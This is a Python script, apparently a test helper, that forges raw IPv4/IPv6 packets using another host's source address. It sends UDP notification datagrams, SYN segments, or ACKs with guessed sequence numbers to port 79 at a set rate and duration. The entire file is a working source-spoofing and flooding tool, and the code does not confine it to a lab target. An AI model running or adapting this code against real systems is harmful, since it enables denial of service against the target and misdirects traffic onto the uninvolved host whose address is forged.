"""A stranger who sends packets with another host's address: `python forger.py WORDS`.

    forger.py SOURCE TARGET udp|syn|ack PER_SECOND SECONDS

It forges datagrams with the line of RFC 4146, first packets of connections (SYN), or first
packets and then acknowledgements (ACK) with guessed numbers, to port 79. The answers go to
the host that has the address, so the stranger sees none of them. It prints "begins" first.
It needs CAP_NET_RAW in its network namespace (raw(7)).
"""

import random
import socket
import struct
import sys
import time
from collections.abc import Iterator
from typing import Final

_PORT: Final = 79
_LINE: Final = b"nm_notifyuser\r\n"
_SYN: Final = 0x02
_ACK: Final = 0x10
# The connections that guessed acknowledgements belong to.
_CONNECTIONS: Final = 8


def checksum(data: bytes) -> int:
    """Return the checksum of RFC 1071 for an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


class Forger:
    """Makes whole IP packets with the addresses that it is given."""

    def __init__(self, source: str, target: str) -> None:
        self._family = socket.AF_INET6 if ":" in target else socket.AF_INET
        self._source = socket.inet_pton(self._family, source)
        self._target = socket.inet_pton(self._family, target)

    def datagram(self, port: int) -> bytes:
        """Return a datagram with the line."""
        length = 8 + len(_LINE)
        header = struct.pack("!HHHH", port, _PORT, length, 0)
        return self._packet(socket.IPPROTO_UDP, header + _LINE, 6)

    def segment(self, port: int, sequence: int, acknowledged: int, flags: int) -> bytes:
        """Return a TCP segment without data (RFC 9293, 3.1)."""
        header = struct.pack(
            "!HHIIBBHHH", port, _PORT, sequence, acknowledged, 0x50, flags, 1024, 0, 0
        )
        return self._packet(socket.IPPROTO_TCP, header, 16)

    def _packet(self, protocol: int, data: bytes, place: int) -> bytes:
        pseudo = self._source + self._target + struct.pack("!IxxxB", len(data), protocol)
        found = checksum(pseudo + data + b"\0" * (len(data) % 2))
        data = data[:place] + struct.pack("!H", found) + data[place + 2 :]
        if self._family == socket.AF_INET6:
            header = struct.pack("!IHBB", 6 << 28, len(data), protocol, 64)
        else:  # the kernel writes this header's own checksum
            header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(data), 0, 0, 64, protocol, 0)
        return header + self._source + self._target + data


def packets(forger: Forger, kind: str) -> Iterator[bytes]:
    """Yield packets without end."""
    if kind == "ack":
        for port in range(_CONNECTIONS):
            yield forger.segment(1024 + port, 1, 0, _SYN)
    number = 0
    while True:
        port = 1024 + number % 60_000
        if kind == "udp":
            yield forger.datagram(port)
        elif kind == "syn":
            yield forger.segment(port, 1, 0, _SYN)
        else:
            guess = random.getrandbits(32)
            yield forger.segment(1024 + number % _CONNECTIONS, 2, guess, _ACK)
        number += 1


def main(source: str, target: str, kind: str, per_second: str, seconds: str) -> None:
    """Send until the time is over."""
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    began, sent = time.monotonic(), 0
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for packet in packets(Forger(source, target), kind):
            sock.sendto(packet, (target, 0))
            sent += 1
            if sent == 1:
                print("begins", flush=True)
            ahead = began + sent / float(per_second) - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
            if time.monotonic() - began > float(seconds):
                return


if __name__ == "__main__":
    main(*sys.argv[1:])
